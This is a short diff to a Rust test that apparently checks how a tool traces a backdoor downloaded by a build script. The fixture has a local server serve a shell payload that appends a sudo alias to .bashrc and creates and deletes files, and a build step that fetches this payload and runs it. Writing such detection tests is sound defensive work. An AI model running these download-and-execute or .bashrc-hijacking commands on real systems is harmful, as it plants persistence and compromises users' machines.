@@ -25,7 +25,7 @@ fn a_backdoor_that_a_build_script_downloads_is_told_from_its_cause_to_its_extent
     let server = LoopbackServer::new(
         1,
         "echo 'alias sudo=x' >> .bashrc\nfor i in 1 2 3 4; do echo > a$i; done; rm a*\n\
-         date > marker\n",
+         date > marker; rm marker; date > marker\n",
     );
     let build = format!(
         "echo building; {} > stage.sh\nsh stage.sh\n",
